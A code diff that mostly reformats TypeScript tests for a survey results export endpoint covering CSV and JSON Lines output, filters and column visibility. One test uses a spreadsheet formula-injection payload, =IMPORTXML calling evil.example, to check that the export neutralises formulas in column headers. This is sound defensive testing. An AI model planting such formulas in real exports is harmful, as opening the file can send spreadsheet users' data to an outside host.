@@ -23,7 +23,9 @@ async function publishedSurvey(overrides: Record<string, unknown> = {}) {
 
 /** The export as its bytes say (a byte order mark included: `Response.text()` would drop it). */
 async function exportOf(flowId: string, query: Record<string, string> = {}) {
-  const response = await svc.app.request(resultsPath(flowId, query, '/export'), { headers: { authorization: `Bearer ${svc.tokens.secret}` } })
+  const response = await svc.app.request(resultsPath(flowId, query, '/export'), {
+    headers: { authorization: `Bearer ${svc.tokens.secret}` },
+  })
   const text = new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(await response.arrayBuffer())
   return { status: response.status, headers: response.headers, text, body: response.status === 200 ? undefined : JSON.parse(text) }
 }
@@ -73,7 +75,9 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
   it('neutralises formulas in the header too (column names come from the flow)', async () => {
     const flow = await publishedSurvey({ variables: [{ id: 'v-name', name: '=IMPORTXML("http://evil.example","//a")' }] })
     const res = await exportOf(flow.id)
-    expect(res.text.split('\r\n')[0]).toBe(`\uFEFFResult id,Created at,Updated at,Completed,"'=IMPORTXML(""http://evil.example"",""//a"")",Contact,Ask age`)
+    expect(res.text.split('\r\n')[0]).toBe(
+      `\uFEFFResult id,Created at,Updated at,Completed,"'=IMPORTXML(""http://evil.example"",""//a"")",Contact,Ask age`,
+    )
   })
 
   it('writes JSON Lines, one object per result with its values by column name, newest first', async () => {
@@ -87,7 +91,12 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
     expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${flow.publicId}-results.jsonl"`)
     const rows = await rowsById(flow.id)
     expect(res.text.endsWith('\n')).toBe(true)
-    expect(res.text.trimEnd().split('\n').map((line) => JSON.parse(line))).toEqual([
+    expect(
+      res.text
+        .trimEnd()
+        .split('\n')
+        .map((line) => JSON.parse(line)),
+    ).toEqual([
       { id: bob, createdAt: rows.get(bob)!.createdAt, updatedAt: rows.get(bob)!.updatedAt, isCompleted: false, values: { Name: 'Bob' } },
       {
         id: ada,
@@ -100,7 +109,9 @@ describe('GET /v1/flows/{flowId}/results/export', () => {
   })
 
   it('exports what the filters select, and only the visible columns when asked', async () => {
-    const flow = await publishedSurvey({ resultsTablePreferences: { columnsOrder: ['b-age'], columnsVisibility: { 'b-email': false, 'v-notes': false } } })
+    const flow = await publishedSurvey({
+      resultsTablePreferences: { columnsOrder: ['b-age'], columnsVisibility: { 'b-email': false, 'v-notes': false } },
+    })
     svc.clock.advance(1_000)
     const ada = await collectResult(svc, flow.id, ['Ada', 'ada@example.com', '36'])
     svc.clock.advance(1_000)
